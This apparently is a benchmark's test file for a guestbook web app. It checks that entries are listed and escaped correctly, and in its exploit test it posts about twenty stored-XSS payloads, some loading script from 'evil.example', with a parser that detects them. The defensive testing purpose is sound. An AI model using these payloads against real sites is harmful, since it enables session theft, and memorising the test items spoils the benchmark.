import re
from html.parser import HTMLParser

from eval.bench.testing import PythonTarget, check, check_equal, require


class Page(HTMLParser):
    """Reads a page: its list items as [title, text], and what would run `steal()`."""

    def __init__(self, text: str):
        super().__init__()
        self.items: list[list[str]] = []
        self.in_item = False
        self.attacks: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "li":
            self.items.append([dict(attrs).get("title") or "", ""])
            self.in_item = True
        for name, value in attrs:
            code = re.sub(r"[\x00-\x20]", "", value or "").lower()
            handler = name.startswith("on") and code.startswith("steal()")
            address = name in ("href", "src") and code.startswith("javascript:steal()")
            other = (tag, name) in (("script", "src"), ("iframe", "srcdoc")) and "steal" in code
            if handler or address or other:
                self.attacks.append(f"<{tag} {name}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("li", "ul", "ol"):
            self.in_item = False

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            if data.lstrip().startswith("steal()"):
                self.attacks.append("<script>")
        elif self.in_item:
            self.items[-1][1] += data


def page_after(program: PythonTarget, author: str, text: str) -> Page:
    program.http("POST", "/entries", form={"author": author, "text": text})
    reply = program.http("GET", "/")
    if reply.status != 200:
        # What it makes of this entry must not hide the next.
        program.restart()
    return Page(reply.text)


def functional_lists_entries(program: PythonTarget) -> None:
    page_after(program, "Ada", "First!")
    items = page_after(program, "Grace", "Fish & chips < caviar").items
    check_equal(len(items), 2, "number of entries")
    check_equal([items[0][0], items[0][1].strip()], ["Ada", "First!"])
    check_equal([items[1][0], items[1][1].strip()], ["Grace", "Fish & chips < caviar"])


def functional_shows_what_was_written(program: PythonTarget) -> None:
    reply = program.http("GET", "/")
    check_equal(reply.status, 200, "status")
    check((reply.header("Content-Type") or "").startswith("text/html"), "it is not HTML")
    check_equal(Page(reply.text).items, [], "entries of an empty guestbook")
    written = [
        ["Zo\u00eb & Bo", "I said \"hello\", she said 'hi'."],
        ["Bo, 7 > 6", "2 < 3 & 3 > 2; {x} %s \\n"],
        ["Z", "the same"],
        ["Z", "the same"],
        ["", "nobody's"],
        ["Ann O'Nymous", ""],
    ]
    for author, text in written:
        page_after(program, author, text)
    items = Page(program.http("GET", "/").text).items
    check_equal([[author, text.strip()] for author, text in items], written)


def exploit_injects_markup(program: PythonTarget) -> None:
    require(len(page_after(program, "Ada", "First!").items) == 1, "an entry is not shown")
    for author, text in (
        ("Eve", "<script>steal()</script>"),
        ("Eve", "</li><ScRiPt>steal()</ScRiPt>"),
        ("Eve", "<scr<script>ipt>steal()</scr</script>ipt>"),
        ("Eve", "<script src=//evil.example/steal.js></script>"),
        ("Eve", "<img src=x onerror=steal()>"),
        ("Eve", "<IMG SRC=x OnError='steal()'>"),
        ("Eve", "<img src=x onerror=steal() "),
        ("Eve", "<svg/onload=steal()>"),
        ("Eve", "<svg\nonload\n=\nsteal()\n>"),
        ("Eve", '<a href="javascript:steal()">hello</a>'),
        ("Eve", '<iframe srcdoc="<script>parent.steal()</script>"></iframe>'),
        ("Eve", "&lt;img src=x onerror=steal()&gt;"),
        ('Eve" onmouseover="steal()', "hello"),
        ("Eve' onmouseover='steal()", "hello"),
        ("Eve onmouseover=steal() x", "hello"),
        ("Eve\tonmouseover=steal()", "hello"),
        ("Eve&quot; onmouseover=&quot;steal()", "hello"),
        ('"><svg onload=steal()>', "hello"),
        ("'><svg onload=steal()>", "hello"),
        ("><svg onload=steal()>", "hello"),
        ('"><script>steal()</script>', "hello"),
    ):
        page = page_after(program, author, text)
        check(not page.attacks, f"{author!r}, {text!r} gives {page.attacks}")
